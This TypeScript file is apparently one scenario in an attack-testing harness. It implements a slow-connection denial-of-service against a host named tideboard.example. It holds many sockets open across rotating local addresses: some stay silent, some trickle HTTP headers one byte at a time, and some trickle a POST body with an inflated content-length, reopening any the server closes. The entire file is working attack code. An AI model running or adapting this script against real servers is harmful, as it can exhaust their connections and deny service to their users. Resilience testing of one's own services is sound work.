import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { addressIn, atRate, attackWith } from './attacker.ts'
import type { Means } from './attacker.ts'

// Holds `size` connections: a third says nothing, a third trickles a head and a third a body, a byte at a time; whichever is closed comes back.
const NETWORK = 20
const ADDRESSES = 100
const HEAD = 'GET / HTTP/1.1\r\nhost: tideboard.example\r\nx: '
const BODY = 'POST /graphql HTTP/1.1\r\nhost: tideboard.example\r\ncontent-type: application/json\r\ncontent-length: 90000\r\n\r\n'
const BEGINNINGS = ['', HEAD, BODY]

function open({ origin, tally }: Means, n: number): Socket {
  const { hostname, port } = new URL(origin)
  const socket = connect({ host: hostname, port: Number(port), localAddress: addressIn(NETWORK, n, ADDRESSES) })
  tally('opened')
  socket.once('error', () => undefined)
  // What the server answers is not read.
  socket.once('close', () => tally('closed by the server'))
  socket.once('connect', () => socket.write(BEGINNINGS[n % BEGINNINGS.length] ?? ''))
  return socket
}

attackWith(async (means) => {
  const sockets: (Socket | undefined)[] = Array.from({ length: means.size })
  await atRate(means, (n) => {
    const i = n % means.size
    const socket = sockets[i]
    if (socket === undefined || socket.destroyed) sockets[i] = open(means, i)
    else if (i % BEGINNINGS.length !== 0) socket.write('x')
  })
  for (const socket of sockets) socket?.removeAllListeners('close').destroy()
})
